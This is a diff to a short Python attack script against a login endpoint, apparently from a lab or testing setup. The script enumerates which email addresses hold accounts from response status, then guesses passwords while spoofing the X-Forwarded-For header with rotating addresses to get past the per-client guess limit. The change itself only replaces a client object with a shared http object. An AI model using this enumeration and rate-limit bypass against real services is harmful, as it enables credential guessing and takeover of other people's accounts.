@@ -1,6 +1,6 @@
 """The status tells which address has an account, and a new header gives five more guesses."""
 
-from target import addresses, client, http, passwords
+from target import addresses, http, passwords
 
 
 def has_account(email):
@@ -8,10 +8,9 @@ def has_account(email):
 
 
 def guess(email, number, password):
-    visitor = client()
     headers = {"X-Forwarded-For": f"192.0.2.{number}"}
-    visitor.post("/login", data={"email": email, "password": password}, headers=headers)
-    return visitor.get("/")
+    http.post("/login", data={"email": email, "password": password}, headers=headers)
+    return http.get("/")
 
 
 for email in addresses():
